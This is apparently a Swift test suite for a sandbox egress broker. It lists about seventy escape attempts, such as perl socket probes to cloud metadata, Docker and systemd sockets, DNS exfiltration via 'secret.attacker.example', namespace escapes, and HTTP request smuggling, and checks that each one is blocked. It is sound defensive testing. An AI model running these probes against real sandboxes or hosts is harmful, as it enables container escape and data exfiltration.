import Domain
import Foundation
import NIOCore
import Synchronization
import TestSupport
import Testing

@testable import Egress

/// One way in which a task may try to reach what it must not.
struct EgressAttempt: Sendable, CustomTestStringConvertible {
    let name: String
    /// What the task does: bytes for the broker's socket, or a program in perl that prints `out` when it got out.
    enum Kind: Sendable {
        case says(String, refusedBy: String)
        case runs(String)
    }
    let kind: Kind

    var testDescription: String { name }

    init(_ name: String, says bytes: String, _ refusal: String) {
        (self.name, kind) = (name, .says(bytes, refusedBy: refusal))
    }

    init(_ name: String, runs program: String) { (self.name, kind) = (name, .runs(program)) }
}

/// Egress attempts in a real sandbox with a real broker: neither a byte around the broker, nor one through it to anything
/// but the model.
@Suite(.serialized) struct EgressCorpusTests {
    /// Connects a stream, or sends a datagram; `PORT` is of a listener on this host that nobody may reach.
    private static func tcp(_ address: String, _ port: String) -> String {
        """
        use Socket qw(:all); my ($e, @r) = getaddrinfo("\(address)", \(port), {socktype => SOCK_STREAM, flags => AI_NUMERICHOST});
        die $e if $e; socket(S, $r[0]{family}, SOCK_STREAM, 0) or die; alarm 3; $SIG{ALRM} = sub { die };
        print "out\\n" if connect(S, $r[0]{addr});
        """
    }

    private static func udp(_ address: String, _ port: String) -> String {
        """
        use Socket qw(:all); my ($e, @r) = getaddrinfo("\(address)", \(port), {socktype => SOCK_DGRAM, flags => AI_NUMERICHOST});
        die $e if $e; socket(S, $r[0]{family}, SOCK_DGRAM, 0) or die; setsockopt(S, SOL_SOCKET, SO_BROADCAST, 1);
        print "out\\n" if defined send(S, "secret", 0, $r[0]{addr});
        """
    }

    static let around: [EgressAttempt] = [
        .init("TCP to a public resolver", runs: tcp("1.1.1.1", "53")),
        .init("TCP to a public web server", runs: tcp("8.8.8.8", "443")),
        .init("TCP to a public server over IPv6", runs: tcp("2606:4700:4700::1111", "443")),
        .init("TCP to a cloud's metadata", runs: tcp("169.254.169.254", "80")),
        .init("TCP to another cloud's metadata", runs: tcp("100.100.100.200", "80")),
        .init("TCP to a cloud's metadata over IPv6", runs: tcp("fd00:ec2::254", "80")),
        .init("TCP to 10/8", runs: tcp("10.0.0.1", "80")),
        .init("TCP to 172.16/12, where containers live", runs: tcp("172.17.0.1", "2375")),
        .init("TCP to 192.168/16", runs: tcp("192.168.0.1", "80")),
        .init("TCP to a listener of this host", runs: tcp("127.0.0.1", "PORT")),
        .init("TCP to a listener of this host by 0.0.0.0", runs: tcp("0.0.0.0", "PORT")),
        .init("TCP to a listener of this host by ::1", runs: tcp("::1", "PORT")),
        .init("TCP to a listener of this host by a mapped address", runs: tcp("::ffff:127.0.0.1", "PORT")),
        .init("TCP to a listener of this host by 127.1.2.3", runs: tcp("127.1.2.3", "PORT")),
        .init("TCP to the model itself, past the broker", runs: tcp("127.0.0.1", "MODEL")),
        .init("UDP to a public resolver", runs: udp("8.8.8.8", "53")),
        .init("UDP to QUIC", runs: udp("1.1.1.1", "443")),
        .init("UDP to a cloud's metadata", runs: udp("169.254.169.254", "80")),
        .init("UDP broadcast", runs: udp("255.255.255.255", "9")),
        .init("UDP multicast", runs: udp("239.1.2.3", "9")),
        .init("UDP multicast DNS", runs: udp("224.0.0.251", "5353")),
        .init("UDP to a public server over IPv6", runs: udp("2606:4700:4700::1111", "53")),
        .init(
            "A name by the resolver",
            runs: """
                use Socket qw(:all); my ($e, @r) = getaddrinfo("example.org", 80); print "out\\n" if !$e && @r;
                """),
        .init(
            "A name by the resolver that says what it knows",
            runs: """
                use Socket qw(:all); my ($e, @r) = getaddrinfo("secret.attacker.example", 80); print "out\\n" if !$e && @r;
                """),
        .init(
            "A raw ICMP socket", runs: "use Socket; print \"out\\n\" if socket(S, AF_INET, SOCK_RAW, 1);"),
        .init(
            "A ping socket to the outside",
            runs: """
                use Socket; socket(S, AF_INET, SOCK_DGRAM, 1) or die;
                print "out\\n" if defined send(S, pack("CCnnn", 8, 0, 0, 1, 1), 0, pack_sockaddr_in(0, inet_aton("1.1.1.1")));
                """),
        .init("A packet socket", runs: "use Socket; print \"out\\n\" if socket(S, 17, SOCK_RAW, 0x300);"),
        .init("A vsock", runs: "use Socket; print \"out\\n\" if socket(S, 40, SOCK_STREAM, 0);"),
        .init("A Bluetooth socket", runs: "use Socket; print \"out\\n\" if socket(S, 31, SOCK_STREAM, 3);"),
        .init("A socket of the kernel's ciphers", runs: "use Socket; print \"out\\n\" if socket(S, 38, 5, 0);"),
        .init(
            "An abstract socket of this host",
            runs: """
                use Socket; socket(S, AF_UNIX, SOCK_STREAM, 0) or die;
                print "out\\n" if connect(S, pack("Sa*", AF_UNIX, "\\0ABSTRACT"));
                """),
        .init(
            "A socket of the host's services",
            runs: """
                use Socket; for my $p ("/run/systemd/private", "/run/dbus/system_bus_socket", "/var/run/docker.sock",
                "/run/podman/podman.sock", "/run/nscd/socket", "/var/run/nscd/socket", "/tmp/.X11-unix/X0") {
                socket(S, AF_UNIX, SOCK_STREAM, 0); print "out\\n" if connect(S, sockaddr_un($p)); }
                """),
        .init(
            "A tunnel device",
            runs: "print \"out\\n\" if open(F, '+<', '/dev/net/tun');"),
        .init(
            "A new route by netlink",
            runs: """
                use Socket; socket(S, 16, SOCK_RAW, 0) or die;
                my $m = pack("LSSLLCCCCCCCCL", 28, 24, 0x405, 1, 0, 2, 0, 0, 0, 254, 3, 0, 1, 0);
                send(S, $m, 0, pack("SSLL", 16, 0, 0, 0)); alarm 3; $SIG{ALRM} = sub { die };
                my $a; recv(S, $a, 4096, 0); my (undef, $t, undef, undef, undef, $e) = unpack("LSSLLl", $a);
                print "out\\n" if $t == 2 && $e == 0;
                """),
        .init(
            "Another network namespace",
            runs: "print \"out\\n\" if system('/usr/bin/unshare', '-n', '/bin/true') == 0;"),
        .init(
            "The host's network namespace by a process of the host",
            runs: """
                for my $p (glob("/proc/[0-9]*/ns/net")) { open(F, '<', $p) or next;
                print "out\\n" if syscall(308, fileno(F), 0x40000000) == 0; }
                """),
        .init(
            "Another socket in the broker's folder",
            runs: "print \"out\\n\" if open(F, '>', '/run/model/other.sock') || unlink('/run/model/model.sock');"),
    ]

    static let through: [EgressAttempt] = [
        .init(
            "A proxy request by CONNECT",
            says: "CONNECT 127.0.0.1:PORT HTTP/1.1\r\nhost: 127.0.0.1:PORT\r\nconnection: close\r\n\r\n", "40"),
        .init(
            "A proxy request by an absolute target", says: Way.request("http://127.0.0.1:PORT/v1/responses"), "target"),
        .init("An absolute target with https", says: Way.request("https://127.0.0.1:PORT/v1/responses"), "target"),
        .init("A target that begins with two slashes", says: Way.request("//127.0.0.1:PORT/v1/responses"), "target"),
        .init("A target with user and host", says: Way.request("/@127.0.0.1:PORT/v1/responses"), "target"),
        .init("Parent folders", says: Way.request("/v1/../admin"), "target"),
        .init("Parent folders after an operation", says: Way.request("/v1/responses/../files"), "target"),
        .init("Encoded parent folders", says: Way.request("/v1/%2e%2e/admin"), "target"),
        .init("An encoded slash", says: Way.request("/v1/responses%2f..%2ffiles"), "target"),
        .init("A backslash", says: Way.request("/v1\\responses"), "target"),
        .init("A fragment", says: Way.request("/v1/responses#@127.0.0.1:PORT"), "target"),
        .init("An asterisk", says: Way.request("*", method: "OPTIONS"), "method"),
        .init("The list of models", says: Way.request("/v1/models", method: "GET", body: ""), "method"),
        .init("Files of the account", says: Way.request("/v1/files"), "operation"),
        .init("Another operation", says: Way.request("/v1/images/generations"), "operation"),
        .init("Another vendor's operation", says: Way.request("/v1/messages"), "operation"),
        .init("An operation with something behind", says: Way.request("/v1/responses/resp_1/cancel"), "operation"),
        .init("An operation in other letters", says: Way.request("/v1/Responses"), "operation"),
        .init("The root", says: Way.request("/"), "operation"),
        .init("Deleting", says: Way.request("/v1/responses", method: "DELETE"), "method"),
        .init("Putting", says: Way.request("/v1/responses", method: "PUT"), "method"),
        .init("Patching", says: Way.request("/v1/responses", method: "PATCH"), "method"),
        .init("Tracing", says: Way.request("/v1/responses", method: "TRACE", body: ""), "method"),
        .init("A method of one's own", says: Way.request("/v1/responses", method: "PURGE"), "method"),
        .init(
            "Two lengths",
            says:
                "POST /v1/responses HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\ncontent-length: 3\r\nconnection: close\r\n\r\n{}x",
            "400"),
        .init(
            "A length and chunks",
            says:
                "POST /v1/responses HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n0\r\n\r\nPOST /v1/files HTTP/1.1\r\n\r\n",
            "400"),
        .init(
            "A negative length",
            says: "POST /v1/responses HTTP/1.1\r\nhost: x\r\ncontent-length: -1\r\nconnection: close\r\n\r\n", "400"),
        .init(
            "An unknown transfer coding",
            says: "POST /v1/responses HTTP/1.1\r\nhost: x\r\ntransfer-encoding: gzip, x\r\nconnection: close\r\n\r\n{}",
            "400"),
        .init(
            "A space before a colon",
            says: "POST /v1/responses HTTP/1.1\r\nhost : x\r\nconnection: close\r\ncontent-length: 2\r\n\r\n{}", "400"),
        .init(
            "A NUL in a header",
            says: "POST /v1/responses HTTP/1.1\r\nhost: x\u{0}y\r\nconnection: close\r\ncontent-length: 2\r\n\r\n{}",
            "400"),
        .init("Not HTTP at all", says: "\u{16}\u{3}\u{1}\u{2}\u{0}\u{1}\u{0}\u{1}\u{fc}\u{3}\u{3}\r\n\r\n", "400"),
        .init("HTTP/2", says: "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "400"),
    ]

    /// A listener of this host that nobody may reach, by TCP and by an abstract socket.
    @Test("A task cannot get around the broker", arguments: around)
    func staysInside(attempt: EgressAttempt) async throws {
        let forbidden = try await ModelServer.start(host: "0.0.0.0")
        defer { forbidden.stop() }
        let abstract = "pagewright-egress-\(UInt32.random(in: 0 ... .max))"
        let listener = try await TestChild(["/usr/bin/socat", "ABSTRACT-LISTEN:\(abstract),fork", "EXEC:/bin/true"])
        defer { listener.kill() }
        guard case .runs(let program) = attempt.kind else { Issue.record("nothing runs"); return }
        try await Way.open { way in
            let text = program.replacing("PORT", with: "\(forbidden.port)")
                .replacing("MODEL", with: "\(way.server.port)").replacing("ABSTRACT", with: abstract)
            let said = try await way.sandbox([
                "/usr/bin/perl", "-e", "eval {\n\(text)\n};\nprint \"tried\\n\";",
            ])
            // What it says on standard error may come before or after.
            #expect(said.split(separator: "\n").contains("tried"), "\(said)")
            #expect(!said.split(separator: "\n").contains("out"), "\(said)")
            #expect(forbidden.connections == 0)
            #expect(way.server.connections == 0)
        }
    }

    @Test("Nothing but a request to the model gets through the broker", arguments: through)
    func onlyTheModel(attempt: EgressAttempt) async throws {
        guard case .says(let bytes, let refusal) = attempt.kind else { Issue.record("nothing is said"); return }
        let forbidden = try await ModelServer.start()
        defer { forbidden.stop() }
        try await Way.open { way in
            let said = try await way.say(bytes.replacing("PORT", with: "\(forbidden.port)"))
            #expect(said.hasPrefix("HTTP/1.1 4") && said.contains(refusal), "\(said)")
            #expect(forbidden.connections == 0)
            #expect(way.server.asked.allSatisfy { $0.uri == "/v1/responses" }, "\(way.server.asked)")
            #expect(way.server.asked.isEmpty)
        }
    }

    @Test(
        "What a task says about where it wants to go changes nothing",
        arguments: [
            Way.request(headers: ["x-forwarded-host: 127.0.0.1:PORT", "forwarded: host=127.0.0.1:PORT"]),
            Way.request(headers: ["x-original-url: /v1/files", "x-rewrite-url: http://127.0.0.1:PORT/"]),
            Way.request().replacing("host: 127.0.0.1:8399", with: "host: 127.0.0.1:PORT"),
            Way.request("/v1/responses?url=127.0.0.1:PORT&callback=/v1/files"),
            Way.request(headers: ["upgrade: websocket", "sec-websocket-key: x", "te: trailers"]),
            Way.request(headers: ["proxy-authorization: Basic x", "proxy-connection: keep-alive"]),
            Way.request(headers: ["x-http-method-override: DELETE", "x-method-override: DELETE"]),
            Way.request(headers: ["openai-organization: other", "openai-project: other"]),
        ])
    func ignored(request: String) async throws {
        let forbidden = try await ModelServer.start()
        defer { forbidden.stop() }
        try await Way.open { way in
            let said = try await way.say(request.replacing("PORT", with: "\(forbidden.port)"))
            #expect(said.hasPrefix("HTTP/1.1 200"), "\(said)")
            let asked = try #require(way.server.asked.first)
            #expect(asked.uri == "/v1/responses" && asked.method == "POST")
            #expect(
                Set(asked.headers.keys) == ["host", "authorization", "accept-encoding", "connection", "content-length"])
            #expect(asked.headers["host"] == "127.0.0.1:\(way.server.port)")
            #expect(forbidden.connections == 0)
        }
    }

    @Test(
        "A name that leads to an address inside is refused, also beside a good one",
        arguments: [
            ["127.0.0.1"], ["127.9.9.9"], ["10.1.2.3"], ["172.16.0.1"], ["192.168.1.1"], ["169.254.169.254"],
            ["100.64.0.1"], ["0.0.0.0"], ["224.0.0.1"], ["255.255.255.255"], ["::1"], ["::"], ["fd00:ec2::254"],
            ["fe80::1"], ["ff02::1"], ["::ffff:127.0.0.1"], ["::ffff:169.254.169.254"], ["64:ff9b::7f00:1"],
            ["2002:7f00:1::"], ["2001::1"], ["1.1.1.1", "127.0.0.1"], ["2606:4700:4700::1111", "fe80::1"],
        ])
    func resolution(addresses: [String]) async throws {
        let asked = AskedNames()
        let resolver = HostResolver { host, port in
            asked.add(host)
            return try addresses.map { try SocketAddress(ipAddress: $0, port: port) }
        }
        try await Way.open(baseURL: "https://models.example:PORT/v1", resolver: resolver) { way in
            let said = try await way.say(Way.request())
            #expect(said.hasPrefix("HTTP/1.1 502") && said.contains("\"address\""), "\(said)")
            #expect(way.server.connections == 0)
            #expect(asked.all == ["models.example"])
        }
    }

    @Test("A link-local address is refused even where the operator allowed the name")
    func metadata() async throws {
        let resolver = HostResolver { _, port in [try SocketAddress(ipAddress: "169.254.169.254", port: port)] }
        try await Way.open(
            baseURL: "http://models.example:80/v1", resolver: resolver,
            settings: { settings, _ in settings.localModels = ["models.example:80"] }
        ) { way in
            let answer = try await way.say(Way.request())
            #expect(answer.contains("\"address\""))
        }
    }

    @Test("A key is not sent in the clear to anybody but a machine of one's own")
    func plaintext() async throws {
        let resolver = HostResolver { _, port in [try SocketAddress(ipAddress: "1.1.1.1", port: port)] }
        try await Way.open(baseURL: "http://models.example/v1", resolver: resolver) { way in
            let answer = try await way.say(Way.request())
            #expect(answer.contains("plaintext"))
        }
    }

    @Test("The corpus has at least sixty attempts")
    func size() {
        #expect(Self.around.count + Self.through.count >= 60)
    }
}

private final class AskedNames: Sendable {
    private let state = Mutex<[String]>([])
    func add(_ name: String) { state.withLock { $0.append(name) } }
    var all: [String] { state.withLock { $0 } }
}
